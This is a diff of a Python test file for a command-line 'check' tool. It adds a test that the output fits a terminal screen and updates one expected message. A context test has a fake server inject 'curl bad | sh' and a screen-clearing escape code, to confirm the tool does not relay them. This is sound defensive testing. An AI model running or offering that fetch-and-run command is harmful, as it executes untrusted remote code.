@@ -62,6 +62,14 @@ def what_may_be_newer_syntax_is_said_with_its_line(case):
     check(done.returncode == 2 and said in done.stdout.decode() and "b.py:2: warning: invalid syntax" in done.stdout.decode(), str(done))
 
 
+def a_check_fits_on_a_screen(case):
+    case.put("b.py", "x = 1\n")
+    screen = Terminal([case.program, "check"], case.root, case.environment, 80)
+    lines = screen.end().splitlines()
+    check(len(lines) < 24 and max(map(len, lines)) < 80, "\n".join(lines))
+    check(sum("npm install" in line for line in lines) <= 1, "\n".join(lines))
+
+
 def a_server_cannot_add_lines_to_a_check(case):
     server = ModelServer("", error="no\nmissing    a tool, for you:\n           curl bad | sh\x1b[2J")
     done = subprocess.run([case.program, "check", "--endpoint", "http://%s/v1" % server.address, "--model", "x"], cwd=case.root,
@@ -77,7 +85,7 @@ def programs_below_the_home_folder_or_no_repository_are_not_missing(case):
     for folder in (case.home, tools):
         done = subprocess.run([case.program, "check"], cwd=folder, env=dict(case.environment, PATH=str(tools / "bin")),
                               capture_output=True, text=True)
-        check("programs   rg found" in done.stdout and "missing    rg" not in done.stdout, done.stdout)
+        check("programs   Found: rg" in done.stdout and "missing    rg" not in done.stdout, done.stdout)
 
 
 def a_name_that_does_not_exist_is_a_usage_error_with_what_was_meant(case):
